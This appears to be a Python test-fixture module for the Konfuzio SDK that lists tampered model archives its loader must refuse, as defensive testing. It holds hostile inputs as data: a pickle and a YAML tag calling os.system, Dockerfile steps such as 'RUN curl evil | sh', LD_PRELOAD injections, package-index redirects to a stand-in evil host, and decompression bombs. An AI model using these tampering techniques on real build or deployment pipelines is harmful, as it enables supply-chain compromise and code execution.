"""Archives that must be refused, each for a reason of its own."""

from __future__ import annotations

import hashlib
from typing import TYPE_CHECKING

import lz4.frame
from hostile_files import HOSTILE_FILES
from tampering import Hostile, Tampered

from konfuzio_sdk.opening.limits import Limits

if TYPE_CHECKING:
    from collections.abc import Callable

__all__ = ["HOSTILE"]

_DOCKERFILE = "env/docker/Dockerfile"
_LOCK = "src/requirements.txt"


def _changed(change: Callable[[Tampered], object], seal: str = "") -> Callable[[Tampered], bytes]:
    """A valid archive with changed files; `seal` is what of it a forger made right again."""

    def made(valid: Tampered) -> bytes:
        change(valid)
        if seal:
            getattr(valid, seal)()
        return valid.tar()

    return made


def _forged(name: str, old: str, new: str) -> Callable[[Tampered], bytes]:
    """A valid archive with a change of one file, and all digests and versions made right again."""
    return _changed(lambda valid: valid.replace(name, old, new), "everything")


def _added(name: str, text: str, seal: str = "everything") -> Callable[[Tampered], bytes]:
    return _changed(lambda valid: valid.add(name, text), seal)


def _manifest(
    change: Callable[[dict], object], seal: str = "everything", *, beside: bool = True
) -> Callable[[Tampered], bytes]:
    return _changed(lambda valid: valid.change_manifest(change, beside=beside), seal)


def _pickle(content: bytes, size: int | None = None, *, tail: bytes = b"") -> Callable[[Tampered], bytes]:
    """An archive with another pickle, that its manifest describes."""

    def change(valid: Tampered) -> None:
        valid.replace_pickle(lz4.frame.compress(content) + tail, len(content) if size is None else size)

    return _changed(change, "everything")


def _bundled(wheel: str, *pins: str, tail: str = "") -> Callable[[Tampered], bytes]:
    """An archive with a wheel in its wheelhouse, that these pins of installers are for."""

    def change(valid: Tampered) -> None:
        valid.change_manifest(lambda said: said.update(bundled=True)).add(f"src/wheelhouse/{wheel}", "x")
        digest = hashlib.sha256(b"x").hexdigest()
        if pins:
            told = "".join(f"{pin} \\\n    --hash=sha256:{digest}\n" for pin in pins)
            valid.add("src/installers.txt", told + tail)

    return _changed(change, "everything")


_CONTENTS = [
    Hostile(
        "no manifest",
        _changed(lambda valid: valid.files.pop("src/manifest.json")),
        "the archive has no manifest (src/manifest.json)",
    ),
    Hostile(
        "wrong digest",
        _changed(lambda valid: valid.add("README.md", "x")),
        "'README.md': the file is not the one that was sealed",
    ),
    Hostile(
        "extra file",
        _added("src/sitecustomize.py", "import canary", seal=""),
        "the file is not in the manifest: somebody added it",
    ),
    Hostile(
        "missing file",
        _changed(lambda valid: valid.files.pop("README.md")),
        "the file is in the manifest, and missing in the archive",
    ),
    Hostile("no files in the manifest", _manifest(lambda said: said.update(files={}), ""), "it lists no files"),
    Hostile(
        "shadowing module",
        _added("src/konfuzio_sdk/__init__.py", "import canary"),
        "no archive that this SDK makes has a file there",
    ),
    Hostile(
        "unknown format",
        _manifest(lambda said: said.update(format="konfuzio-manifest-9"), ""),
        "its format is 'konfuzio-manifest-9'",
    ),
    Hostile(
        "key twice in the manifest",
        _changed(lambda valid: valid.replace("src/manifest.json", '"bundled"', '"name": "x",\n "bundled"')),
        "the key 'name' is there twice",
    ),
    Hostile(
        "key unknown in the manifest",
        _manifest(lambda said: said.update(hook="x"), ""),
        "it is no manifest: Extra inputs",
    ),
    Hostile(
        "deep manifest",
        _changed(lambda valid: valid.files.update({"src/manifest.json": b"[" * 100_000})),
        "no JSON that can be relied on: it is nested too deep",
    ),
    Hostile(
        "giant manifest",
        _changed(lambda valid: valid.files.update({"src/manifest.json": b" " * 17 * 1024**2})),
        "too large for what it should hold",
    ),
    Hostile(
        "manifest beyond a limit that was given",
        _changed(lambda valid: valid),
        "src/manifest.json: the file is larger than 1000 bytes",
        Limits(described=1000),
    ),
    Hostile(
        "latest model",
        _manifest(lambda said: said["model"].update(tag="categorization_1:latest"), ""),
        "'categorization_1:latest' says latest",
    ),
    Hostile(
        "tag that leads elsewhere",
        _manifest(lambda said: said["model"].update(tag="a:../../../etc"), ""),
        "String should match pattern",
    ),
    Hostile(
        "tag of two versions",
        _manifest(lambda said: said["model"].update(tag="categorization_1:..:a"), ""),
        "String should match pattern",
    ),
    Hostile(
        "Python from elsewhere",
        _manifest(lambda said: said["runtime"].update(python="python:5000/evil"), ""),
        "at 'runtime.python'",
    ),
    Hostile(
        "package from elsewhere",
        _manifest(lambda said: said["packages"].update({"evil @ http://evil": "1"}), ""),
        "it is no manifest: String should match pattern",
    ),
    Hostile(
        "latest Bento",
        _changed(lambda valid: valid.set_version("latest"), "digests"),
        "'categorization_1:latest' says latest",
    ),
    Hostile(
        "tag collision",
        _changed(lambda valid: valid.add("src/licenses.json", " "), "digests"),
        "it is another Bento",
    ),
    Hostile(
        "model's tag collision",
        _manifest(lambda said: said.update(metadata={"a": "b"}), "digests"),
        "it is another model",
    ),
    Hostile(
        "forged requirements",
        _manifest(lambda said: said["inputs"].update(requires_images=True), "digests"),
        "it is another model",
    ),
    Hostile(
        "another name",
        _changed(lambda valid: valid.replace("bento.yaml", "name: categorization_1", "name: extraction_1"), "digests"),
        "the Bento is named 'extraction_1'",
    ),
    Hostile(
        "second model",
        _added("models/other/1/model.pkl", "x", "digests"),
        "an archive has one model, and this is another",
    ),
    Hostile(
        "another version is the latest",
        _added("models/categorization_1/latest", "2qytjiwhoc7flhbp", ""),
        "'models/categorization_1/latest': the file is not in the manifest",
    ),
    Hostile(
        "unknown AI type",
        _manifest(lambda said: said.update(ai_type="translation")),
        "the AI type 'translation' is none that this SDK knows: categorization, extraction, file_splitting.",
    ),
    Hostile(
        "request of another AI type",
        _manifest(lambda said: said.update(request="ExtractRequest20261123", requests=["ExtractRequest20261123"])),
        "the request 'ExtractRequest20261123' is none of categorization that this SDK knows",
    ),
    Hostile(
        "response of a newer SDK",
        _manifest(
            lambda said: said.update(response="CategorizeResponse20990101", responses=["CategorizeResponse20990101"])
        ),
        "upgrade konfuzio-sdk",
    ),
    Hostile(
        "request that the service does not speak",
        _manifest(lambda said: said.update(requests=said["requests"][:1])),
        "that it asks for is none that the service speaks",
    ),
    Hostile(
        "manifests differ",
        _manifest(lambda said: said.update(git_commit="0" * 40), "everything", beside=False),
        "it says otherwise than src/manifest.json of 'git_commit'",
    ),
    Hostile(
        "record differs",
        _changed(
            lambda valid: valid.replace(f"{valid.model}model.pkl.lz4.json", '"ai_type": "', '"ai_type": "x'),
            "everything",
        ),
        "the pickle's record contradicts the manifest's 'ai_type'",
    ),
    Hostile(
        "model is a module",
        _changed(lambda valid: valid.replace(f"{valid.model}model.yaml", "module: ''", "module: os"), "everything"),
        "it names the module 'os'",
    ),
    Hostile(
        "model with options",
        _changed(
            lambda valid: valid.replace(f"{valid.model}model.yaml", "options: {}", "options: {a: b}"), "everything"
        ),
        "its 'options' are {'a': 'b'}",
    ),
    Hostile(
        "golden response changed",
        _changed(lambda valid: valid.add(f"{valid.model}golden/1.response.json", " "), "everything"),
        "1.response.json: the file is another than the one",
    ),
    Hostile(
        "golden sample added",
        _changed(lambda valid: valid.files.update({f"{valid.model}golden/9.request.json": b"{}"}), "everything"),
        "it is no golden sample of the manifest",
    ),
    Hostile("pickle bomb", _pickle(bytes(50 * 1024**2), 1000), "unpacks into more than"),
    Hostile("hidden after the pickle", _pickle(b"\x80\x05N.", tail=b"hidden"), "bytes after its end"),
    Hostile("pickle that runs a command", _pickle(b"\x80\x05cos\nsystem\n(S'touch canary'\ntR."), "The pickle"),
]
_BENTO_FILE = [
    Hostile(
        "YAML bomb",
        _changed(lambda valid: valid.add("bento.yaml", "a: &a [x, x]\nb: [*a, *a]\n"), "digests"),
        "an anchor or an alias",
    ),
    Hostile(
        "YAML beyond a limit that was given",
        _changed(lambda valid: valid.add("bento.yaml", "#" * 200_000), "digests"),
        "bento.yaml: the file is larger than 200000 bytes",
        Limits(described=200_000),
    ),
    Hostile(
        "YAML tag",
        _changed(
            lambda valid: valid.add("bento.yaml", "a: !!python/object/apply:os.system ['touch canary']\n"), "digests"
        ),
        "which asks for an object of a class",
    ),
    Hostile(
        "YAML key twice",
        _changed(lambda valid: valid.add("bento.yaml", "name: other\n"), "digests"),
        "it has the key 'name' twice",
    ),
    Hostile(
        "YAML merge",
        _changed(lambda valid: valid.add("bento.yaml", "<<: {a: b}\n"), "digests"),
        "it merges a mapping into another",
    ),
    Hostile(
        "two YAML documents",
        _changed(lambda valid: valid.add("bento.yaml", "---\nname: other\n"), "digests"),
        "it has more than one document",
    ),
    Hostile(
        "deep YAML",
        _changed(lambda valid: valid.add("bento.yaml", "a: " + "[" * 80 + "]" * 80 + "\n"), "digests"),
        "it is nested more than 64 deep",
    ),
    Hostile(
        "damaged YAML",
        _changed(lambda valid: valid.add("bento.yaml", "a: [\n"), "digests"),
        "no YAML that can be relied on: it is damaged",
    ),
    Hostile(
        "no YAML mapping",
        _changed(lambda valid: valid.files.update({"bento.yaml": b"- a\n"}), "digests"),
        "it is no mapping of names",
    ),
    Hostile(
        "docker options",
        _changed(lambda valid: valid.add("bento.yaml", "docker: {setup_script: x}\n"), "digests"),
        "it has the key 'docker'",
    ),
    Hostile(
        "arguments",
        _changed(lambda valid: valid.replace("bento.yaml", "args: {}", "args: {a: b}"), "digests"),
        "'args' is {'a': 'b'}",
    ),
    Hostile(
        "injected variable",
        _changed(
            lambda valid: valid.replace(
                "bento.yaml", "\nenvs:\n", "\nenvs:\n- {name: LD_PRELOAD, value: ./x.so, stage: all}\n"
            ),
            "digests",
        ),
        "'envs' is [{'name': 'LD_PRELOAD'",
    ),
    Hostile(
        "dependency",
        _changed(
            lambda valid: valid.replace("bento.yaml", "  dependencies: []", "  dependencies: [{url: 'http://evil'}]"),
            "digests",
        ),
        "is another, or depends on others",
    ),
    Hostile(
        "another model served",
        _changed(
            lambda valid: valid.replace("bento.yaml", "  - tag: categorization_1:", "  - tag: categorization_2:"),
            "digests",
        ),
        "the service loads the models",
    ),
    Hostile(
        "configured otherwise",
        _changed(
            lambda valid: valid.replace(
                "bento.yaml", "    traffic:", "    runner_probe: {enabled: true}\n    traffic:"
            ),
            "digests",
        ),
        "may be by its traffic alone",
    ),
    Hostile(
        "own service",
        _changed(lambda valid: valid.replace("bento.yaml", "service: service_", "service: own_"), "digests"),
        "the archive has a service of its own",
    ),
    Hostile(
        "changed service file",
        _changed(lambda valid: valid.add(valid.service, "import canary\n"), "everything"),
        "is not the one that this SDK generates",
    ),
]
_IMAGE = [
    Hostile(
        "injected RUN",
        _changed(
            lambda valid: valid.replace(_DOCKERFILE, "USER bentoml", "RUN curl evil | sh\n\nUSER bentoml"), "digests"
        ),
        "'RUN curl evil | sh'",
    ),
    Hostile(
        "injected after a step",
        _changed(lambda valid: valid.replace(_DOCKERFILE, "-R\nWORKDIR", "-R && curl evil\nWORKDIR"), "digests"),
        "-R && curl evil'",
    ),
    Hostile(
        "continued over an empty line",
        _changed(lambda valid: valid.replace(_DOCKERFILE, "\nENV LANG", "\nENV LANG=x \\\n\nENV LANG"), "digests"),
        "'ENV LANG=x ENV LANG=C.UTF-8'",
    ),
    Hostile(
        "step hidden behind a backslash",
        _changed(lambda valid: valid.replace(_DOCKERFILE, "\nWORKDIR", " \\\n\n&& curl evil\nWORKDIR"), "digests"),
        "-R && curl evil'",
    ),
    Hostile(
        "two words made one",
        _changed(lambda valid: valid.replace(_DOCKERFILE, "mkdir $BENTO_PATH", "mkdir\\\n$BENTO_PATH"), "digests"),
        "'RUN mkdir$BENTO_PATH && chown",
    ),
    Hostile(
        "backslash that does not continue",
        _changed(lambda valid: valid.replace(_DOCKERFILE, "\nENV LANG", "\nRUN a\\\\\nENV LANG"), "digests"),
        "'RUN a\\\\\\\\'",
    ),
    Hostile(
        "more spaces",
        _changed(lambda valid: valid.replace(_DOCKERFILE, "mkdir $BENTO_PATH", "mkdir  $BENTO_PATH"), "digests"),
        "'RUN mkdir  $BENTO_PATH",
    ),
    Hostile(
        "injected ENV",
        _changed(lambda valid: valid.replace(_DOCKERFILE, "ENV LANG", "ENV LD_PRELOAD=/x.so\nENV LANG"), "digests"),
        "'ENV LD_PRELOAD=/x.so'",
    ),
    Hostile(
        "injected ADD",
        _changed(lambda valid: valid.add(_DOCKERFILE, "ADD http://evil /\n"), "digests"),
        "steps, and BentoML makes",
    ),
    Hostile(
        "another frontend",
        _changed(
            lambda valid: valid.files.update({_DOCKERFILE: b"# syntax=evil/frontend\n" + valid.files[_DOCKERFILE]}),
            "digests",
        ),
        "'# syntax=evil/frontend'",
    ),
    Hostile(
        "injected command",
        _changed(lambda valid: valid.replace("bento.yaml", "  commands: []", "  commands: [curl evil]"), "digests"),
        "the image's 'commands' is not what this SDK has made: ['curl evil']",
    ),
    Hostile(
        "another base image",
        _changed(
            lambda valid: valid.replace("bento.yaml", "base_image: python:", "base_image: evil/python:"), "digests"
        ),
        "the image's 'base_image' is not what this SDK has made",
    ),
    Hostile(
        "scripts",
        _changed(lambda valid: valid.replace("bento.yaml", "\nimage:\n", "\nimage:\n  scripts: {a: b}\n"), "digests"),
        "the image has the key 'scripts'",
    ),
    Hostile(
        "entrypoint",
        _added("env/docker/entrypoint.sh", "curl evil\n", "digests"),
        "the script is none that BentoML writes",
    ),
]
_LOCKFILE = [
    Hostile(
        "lockfile beyond a limit that was given",
        _added(_LOCK, "\n" * 200_000),
        "src/requirements.txt: the file is larger than 200000 bytes",
        Limits(described=200_000),
    ),
    Hostile("index", _added(_LOCK, "--index-url http://evil\n"), "it has an option, and may have requirements alone"),
    Hostile(
        "index behind a comment",
        _added(_LOCK, f"# made by uv \\\n--index-url http://evil\n# more \\\nevil==1 --hash=sha256:{'0' * 64}\n"),
        "it has a comment, and installers do not agree where one ends: '# made by uv",
    ),
    Hostile(
        "comment alone",
        _added(_LOCK, "# made by uv\n"),
        "installers do not agree where one ends: '# made by uv'",
    ),
    Hostile(
        "continued without a space",
        _added(_LOCK, f"evil==1 \\\n--hash=sha256:{'0' * 64}\n"),
        "pinned to an exact version by ==: 'evil==1 \\\\'",
    ),
    Hostile(
        "line that ends for some installers",
        _added(_LOCK, f"evil==1 --hash=sha256:{'0' * 64}\f--index-url=http://evil\n"),
        "something else than digests after a requirement",
    ),
    Hostile(
        "option in a marker",
        _added(_LOCK, f"evil==1 ; sys_platform == 'x' --pre --hash=sha256:{'0' * 64}\n"),
        'pinned to an exact version by ==: "evil==1 ; sys_platform',
    ),
    Hostile("empty line", _added(_LOCK, "\n"), "pinned to an exact version by ==: ''"),
    Hostile(
        "another wheel by its file",
        _added(_LOCK, f"./wheels/evil-1-py3-none-any.whl --hash=sha256:{'0' * 64}\n"),
        "it names other wheels by their files than the SDK's own, once",
    ),
    Hostile(
        "second wheel of the SDK",
        _added("src/wheels/konfuzio_sdk-9-py3-none-any.whl", "x"),
        "'src/wheels/konfuzio_sdk-9-py3-none-any.whl': the lockfile does not name this wheel",
    ),
    Hostile("unhashed", _added(_LOCK, "evil==1\n"), "it has a requirement without a digest: 'evil==1'"),
    Hostile("unpinned", _added(_LOCK, "evil>=1\n"), "pinned to an exact version by ==: 'evil>=1'"),
    Hostile("address", _added(_LOCK, "evil @ http://evil/x.whl\n"), "pinned to an exact version by ==: 'evil @"),
    Hostile("editable", _added(_LOCK, "-e ./x\n"), "requirements alone: '-e ./x'"),
    Hostile(
        "option after a requirement",
        _added(_LOCK, f"evil==1 --hash=sha256:{'0' * 64} --index-url=http://evil\n"),
        "something else than digests after a requirement",
    ),
    Hostile(
        "another file of requirements",
        _added("env/python/requirements.txt", "evil==1\n", "digests"),
        "it has BentoML install something besides the lockfile",
    ),
    Hostile(
        "wheels that nobody told of", _added("src/wheelhouse/evil-1-py3-none-any.whl", "x"), "dependencies are not in"
    ),
    Hostile(
        "wheel that is not locked",
        _changed(
            lambda valid: valid.change_manifest(lambda said: said.update(bundled=True)).add(
                "src/wheelhouse/evil-1-py3-none-any.whl", "x"
            ),
            "everything",
        ),
        "no lockfile names this wheel",
    ),
    Hostile("uv that nobody locked", _bundled("uv-9-py3-none-any.whl"), "no lockfile names this wheel"),
    Hostile(
        "uv of another version",
        _bundled("uv-9-py3-none-any.whl", "uv==9", "uv==8"),
        "it names something else than one version of uv",
    ),
    Hostile(
        "another installer", _bundled("pip-9-py3-none-any.whl", "pip==9"), "it names something else than one version"
    ),
    Hostile(
        "installer from an index",
        _bundled("uv-9-py3-none-any.whl", "uv==9", tail="--index-url http://evil\n"),
        "src/installers.txt: it has an option",
    ),
    Hostile(
        "installers without wheels",
        _added("src/installers.txt", f"uv==9 --hash=sha256:{'0' * 64}\n"),
        "it belongs to an archive that brings its wheels",
    ),
    Hostile("wheels missing", _manifest(lambda said: said.update(bundled=True)), "dependencies are in the archive"),
    Hostile("another Python", _added("src/python-version.txt", "3.10.0\n"), "it is not the manifest's Python"),
    Hostile(
        "another wheel",
        _changed(
            lambda valid: valid.add(next(name for name in valid.files if name.endswith(".whl")), "x"), "everything"
        ),
        "the digest of the SDK's wheel is not that of the file",
    ),
]
HOSTILE = [*HOSTILE_FILES, *_CONTENTS, *_BENTO_FILE, *_IMAGE, *_LOCKFILE]
